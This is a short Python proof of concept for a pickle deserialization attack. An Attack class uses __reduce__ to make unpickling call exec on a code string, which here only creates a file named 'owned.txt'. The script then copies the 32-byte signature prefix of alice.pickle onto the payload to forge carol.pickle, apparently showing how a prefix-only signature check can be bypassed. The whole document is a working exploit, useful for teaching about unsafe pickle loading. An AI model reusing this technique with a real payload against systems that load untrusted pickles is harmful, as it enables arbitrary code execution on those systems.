import pickle
from pathlib import Path

CODE = "from pathlib import Path; Path('owned.txt').touch()"


class Attack:
    def __reduce__(self):
        return exec, (CODE,)


attack = pickle.dumps(Attack())
Path("attack.pickle").write_bytes(attack)

signature = Path("alice.pickle").read_bytes()[:32]
Path("carol.pickle").write_bytes(signature + attack)
